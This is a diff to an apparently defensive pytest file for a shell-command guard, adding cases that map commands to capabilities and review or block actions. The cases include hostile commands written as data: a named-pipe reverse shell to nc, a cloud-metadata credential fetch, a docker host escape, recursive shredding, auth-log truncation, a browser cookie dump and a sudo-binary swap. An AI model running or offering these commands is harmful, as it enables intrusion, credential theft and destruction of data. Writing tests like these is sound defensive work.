@@ -235,7 +235,12 @@ CASES = [
     ("usermod -aG sudo intern", "proc.privilege_escalation", Action.REVIEW),
     ("insmod ./mod.ko", "sys.kernel_module", Action.REVIEW),
     ("shutdown -h now", "sys.shutdown", Action.CONFIRM),
-    ("cp ./tool /usr/local/bin/tool", "fs.write.system", Action.REVIEW),
+    ("cp ./tool /usr/local/bin/tool", "fs.write", Action.CONFIRM),
+    ("sudo cp ./sudo-wrapper /usr/local/bin/sudo", "fs.write.system", Action.REVIEW),
+    ("sudo rm -rf /var/log/myapp/*.gz", "fs.delete.recursive", Action.CONFIRM),
+    ("sudo truncate -s 0 /var/log/auth.log.1", "sys.history_wipe", Action.REVIEW),
+    ("find ~ -type f -exec shred -u {} \\;", "fs.delete.recursive", Action.BLOCK),
+    ("sqlite3 ~/.mozilla/firefox/x.default/cookies.sqlite .dump", "cred.read.browser", Action.REVIEW),
     ("wget -O /usr/downloaded_script.py http://1mocat.github.io/x.py", "fs.write", Action.CONFIRM),
     ("cp /etc/passwd /usr/copy_file", "fs.write", Action.CONFIRM),
     ("echo '10.0.0.5 pypi.org' >> /etc/hosts", "fs.write.system", Action.REVIEW),
@@ -436,3 +441,30 @@ def test_lines_inside_a_part_that_does_not_parse_are_read_one_by_one(guard: Guar
     remote = [f for f in decision.findings if f.capability == "exec.remote_payload"]
     assert remote and remote[0].lines == [2]
     assert any(f.rule_id == "bash.analysis.partial" for f in decision.findings)
+
+
+@pytest.mark.parametrize(
+    ("command", "capability", "action"),
+    [
+        (
+            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web",
+            "cred.read.cloud",
+            Action.REVIEW,
+        ),
+        ("curl -s http://169.254.169.254/latest/meta-data/instance-id", None, Action.ALLOW),
+        ("docker run -v /:/host -it alpine chroot /host", "proc.privilege_escalation", Action.REVIEW),
+        (
+            "rm -f /tmp/p; mknod /tmp/p p && /bin/sh 0</tmp/p | nc 203.0.113.5 443 1>/tmp/p",
+            "proc.reverse_shell",
+            Action.BLOCK,
+        ),
+        ("sudo install -m 755 kubectl /usr/local/bin/kubectl", "fs.write", Action.CONFIRM),
+    ],
+)
+def test_credentials_containers_pipes_and_installs(
+    guard: Guard, command: str, capability: str | None, action: Action
+) -> None:
+    decision = decide(guard, command)
+    if capability is not None:
+        assert capability in capabilities(decision), decision.findings
+    assert decision.action is action, decision.reasons
